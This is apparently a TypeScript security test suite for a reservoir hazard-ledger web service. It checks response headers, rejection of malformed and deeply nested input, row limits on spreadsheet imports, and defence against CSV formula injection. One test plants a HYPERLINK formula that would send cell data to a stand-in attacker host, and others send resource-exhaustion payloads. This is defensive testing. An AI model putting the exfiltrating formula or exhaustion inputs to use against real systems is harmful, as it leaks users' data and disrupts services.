import ExcelJS from 'exceljs';
import { expect, it } from 'vitest';
import { describeOnPostgres } from '../support/postgres-suite.js';

/** What a logged-in user (or anyone) can send at the HTTP edge: headers, odd paths, deep JSON, formula text. */
describeOnPostgres('hostile HTTP input', (suite) => {
  const raw = (path: string, init: RequestInit = {}) =>
    fetch(suite.sys.url + path, { ...init, headers: { authorization: `Bearer ${suite.admin}`, ...init.headers } });

  it('sends security headers and no X-Powered-By, on the API and the dashboard', async () => {
    for (const path of ['/api/health', '/']) {
      const res = await raw(path);
      expect(res.headers.get('x-powered-by')).toBeNull();
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(/default-src 'self'/);
      expect(csp).toMatch(/frame-ancestors 'none'/);
      expect(csp).not.toMatch(/upgrade-insecure-requests/);
    }
  });

  it('answers odd paths and bodies with 4xx, never 500', async () => {
    const cases: [string, RequestInit?][] = [
      ['/api/reservoirs/%00'],
      ['/api/reservoirs/a%00b/series?sensor=WL1'],
      ['/api/projects/99999999999999999999'],
      ['/api/hazards/99999999999999999999'],
      ['/api/alerts/99999999999999999999/history'],
      [
        '/api/hazards',
        {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: '['.repeat(5000) + ']'.repeat(5000),
        },
      ],
      [
        '/api/hazards',
        {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: '{"a":'.repeat(5000) + '1' + '}'.repeat(5000),
        },
      ],
    ];
    for (const [path, init] of cases) {
      const res = await raw(path, init);
      expect([400, 404], `${init?.method ?? 'GET'} ${path.slice(0, 40)}`).toContain(res.status);
    }
    expect((await raw('/api/health')).status).toBe(200);
  });

  it('exports formula-like text as inert text (CSV injection)', async () => {
    const [reservoir] = (await suite.sys.get<{ code: string }[]>('/api/reservoirs', suite.admin)).body;
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
    const created = await suite.sys.post('/api/hazards', suite.admin, {
      reservoirCode: reservoir.code,
      foundOn: '2026-01-05',
      foundBy: '@巡查员',
      source: 'patrol',
      locationOnDam: '坝顶',
      description: evil,
      severity: 'general',
      rectificationDeadline: '2026-12-31',
    });
    expect(created.status).toBe(201);
    const csv = await (await raw('/api/ledger/hazards/export?format=csv')).text();
    const line = csv.split('\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line).toContain(`"'=HYPERLINK`);
    expect(line).toContain(`'@巡查员`);
    expect(line).not.toMatch(/(^|,)"?[=+@-]/);
  });

  it('pages the hazard list: at most 1000 rows a request', async () => {
    const all = await suite.sys.get<{ id: number }[]>('/api/hazards', suite.admin);
    expect(all.status).toBe(200);
    const first = await suite.sys.get<{ id: number }[]>('/api/hazards?limit=1', suite.admin);
    expect(first.body).toHaveLength(1);
    const second = await suite.sys.get<{ id: number }[]>('/api/hazards?limit=1&offset=1', suite.admin);
    expect(second.body.map((h) => h.id)).toEqual(all.body.slice(1, 2).map((h) => h.id));
    expect((await suite.sys.get('/api/hazards?limit=5000', suite.admin)).status).toBe(400);
  });

  const upload = (kind: string, file: Buffer, name: string) => {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(file)]), name);
    return raw(`/api/ledger/${kind}/import`, { method: 'POST', body: form });
  };

  it('refuses a tiny XLSX that declares a million rows, with a 400 naming the limits', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('隐患台账');
    sheet.getCell('A1').value = '编号';
    sheet.getCell('XFD1048576').value = 'x';
    const file = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(file.length).toBeLessThan(10_000);
    const res = await upload('hazards', file, 'bomb.xlsx');
    expect(res.status).toBe(400);
    expect(((await res.json()) as { message: string }).message).toMatch(/at most 10000 rows and 64 columns/);
    const wide = 'a,'.repeat(100) + '\n';
    expect((await upload('hazards', Buffer.from(wide), 'wide.csv')).status).toBe(400);
    const long = '水库编码\n' + '431124-0001\n'.repeat(10_001);
    const tooLong = await upload('responsible-persons', Buffer.from(long), 'long.csv');
    expect(tooLong.status).toBe(400);
    expect(((await tooLong.json()) as { message: string }).message).toMatch(/10000 rows/);
    expect((await raw('/api/health')).status).toBe(200);
  });
});
